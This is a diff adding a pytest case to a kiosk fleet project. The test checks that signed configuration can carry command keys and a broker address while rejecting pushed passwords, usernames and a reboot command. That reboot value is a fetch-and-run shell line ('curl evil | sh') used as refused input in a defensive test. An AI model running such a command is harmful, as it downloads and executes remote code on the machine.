@@ -10,10 +10,11 @@ from pathlib import Path
 
 import pytest
 
+from kiosk.fleet.commands import new_command_key, public_key_text
 from kiosk.publishing.catalogue_release import publish_catalogue
 from kiosk.publishing.config_release import publish_config
 from kiosk.release_format import INDEX
-from kiosk.settings import SettingsError
+from kiosk.settings import DEFAULTS_FILE, SettingsError, load_settings, read_toml_layer
 from kiosk.sync import SyncError
 from tests.bad_catalogues import BAD_CATALOGUES, GOOD
 from tests.sync.conftest import Kiosk, Server, write_catalogue
@@ -352,3 +353,29 @@ def test_a_signed_catalogue_over_the_number_of_guides_is_refused(
     with pytest.raises(SyncError, match="more guides than the limit of 11 for a catalogue"):
         kiosk.sync().sync_once()
     assert catalogue_state(kiosk) == ("1", 10)
+
+
+def test_command_keys_reach_a_kiosk_in_its_signed_configuration_and_credentials_never_do(
+    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
+) -> None:
+    public = public_key_text(new_command_key())
+    config = tmp_path / "fleet.toml"
+    config.write_text(f'[fleet]\nbroker = "mqtts://broker.example:8883"\ncommand_keys = ["{public}"]\n')
+    publish_config(fleet.repository, config, "all")
+    kiosk = make_kiosk_for(fleet)
+    assert kiosk.sync().sync_once().config_updated
+    settings = load_settings(
+        [read_toml_layer(DEFAULTS_FILE), read_toml_layer(kiosk.site), *kiosk.pushed()]
+    ).settings
+    assert settings.fleet.command_keys == [public]
+    assert settings.fleet.broker == "mqtts://broker.example:8883"
+    for key, value in (
+        ("password", '"secret"'),
+        ("password_file", '"/etc/kiosk/broker"'),
+        ("username", '"wh-0001"'),
+        ("reboot_command", '["sh", "-c", "curl evil | sh"]'),
+    ):
+        pushed = tmp_path / f"{key}.toml"
+        pushed.write_text(f"[fleet]\n{key} = {value}\n")
+        with pytest.raises(SettingsError, match=rf"fleet\.{key}.*cannot be pushed"):
+            publish_config(fleet.repository, pushed, "all")
